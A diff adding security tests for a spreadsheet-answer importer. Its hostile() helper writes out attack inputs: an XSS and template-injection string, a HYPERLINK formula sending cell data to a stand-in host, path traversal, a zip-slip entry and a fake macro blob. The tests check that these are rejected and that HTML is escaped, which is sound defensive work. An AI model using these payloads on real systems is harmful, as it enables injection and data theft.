@@ -2,11 +2,14 @@
 
 from __future__ import annotations
 
+import io
+import zipfile
 from pathlib import Path
 
+import openpyxl
 import pytest
 
-from pack.cases import opened, packed, project
+from pack.cases import files, opened, packed, project
 from playbook.handover.answers import Sorted, take
 from playbook.problems import Unusable
 from test_cli import run
@@ -152,3 +155,60 @@ def test_the_command_says_what_it_read(tmp_path: Path) -> None:
     broken = run("answers", str(tmp_path / "back.xlsx"), "--supplier", "ours", folder=root)
     assert "damaged" in broken.stderr
     assert "Traceback" not in broken.stderr
+
+
+def hostile(archive: bytes) -> bytes:
+    """Return the sheet of an archive as an attacker might send it back."""
+    book = openpyxl.load_workbook(io.BytesIO(archive))
+    sheet = book.worksheets[0]
+    ids = [row[0].value for row in sheet.iter_rows(min_row=2)]
+    assert len(ids) >= 4
+    sheet["E2"] = "<img src=x onerror=alert(1)> & {{ 7*7 }}"
+    sheet["E3"] = '=HYPERLINK("http://x.example/?"&A1)'
+    sheet["E4"] = "x" * 32_000
+    sheet["A5"], sheet["E5"] = "../../../playbook.yaml", "title: mine"
+    for at, ident in enumerate(("SCO-99.pay", "SCO-03.hire", ids[0], "\u202egnp.pay"), 6):
+        sheet.cell(at, 1).value, sheet.cell(at, 5).value = ident, "other"
+    made = io.BytesIO()
+    book.save(made)
+    with zipfile.ZipFile(made, "a") as changed:
+        changed.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0 AutoOpen")
+        changed.writestr("xl/externalLinks/externalLink1.xml", b"<externalLink/>")
+        changed.writestr("../../evil.txt", b"evil")
+    return made.getvalue()
+
+
+def test_S26_a_sheet_of_hostile_answers_keeps_what_it_may_and_changes_nothing_else(
+    tmp_path: Path,
+) -> None:
+    root = project(tmp_path / "p")
+    whole = files(packed(root).path)
+    (sheet_,) = (data for name, data in whole.items() if name.endswith(".xlsx"))
+    (tmp_path / "terug <b>.xlsm").write_bytes(hostile(sheet_))
+    before = {path: path.read_bytes() for path in tmp_path.rglob("*") if path.is_file()}
+    done = run("answers", str(tmp_path / "terug <b>.xlsm"), "--supplier", "ours", folder=root)
+    assert done.returncode == 1
+    assert "Traceback" not in done.stderr
+    told = [line for line in done.stderr.splitlines() if line.startswith("Not read:")]
+    for place, why in (
+        ("E3", "a formula"),
+        ("E4", "longer than"),
+        ("A5", "not the id of a question"),
+        ("A6", "not the id of a question"),
+        ("A7", "not shared with this supplier"),
+        ("E2", "answered in"),
+        ("A9", "not the id of a question"),
+    ):
+        assert any(place[1:] in line and why in line for line in told), (place, why, told)
+    after = {path: path.read_bytes() for path in tmp_path.rglob("*") if path.is_file()}
+    assert after == before, "an answer given twice is not kept, and nothing else is touched"
+
+
+def test_S26_html_that_is_answered_is_shown_as_text(tmp_path: Path) -> None:
+    root = project(tmp_path / "p")
+    taken(root, ("SCO-03.pay", "<img src=x onerror=alert(1)> </script> {{ 7*7 }}"))
+    site = opened(root)
+    for address in ("x/en/trust.html", "x/en/suppliers/ours.html"):
+        html = site.html(site.pages[address]).decode()
+        assert "<img" not in html
+        assert "&lt;img src=x onerror=alert(1)&gt; &lt;/script&gt; {{ 7*7 }}" in html
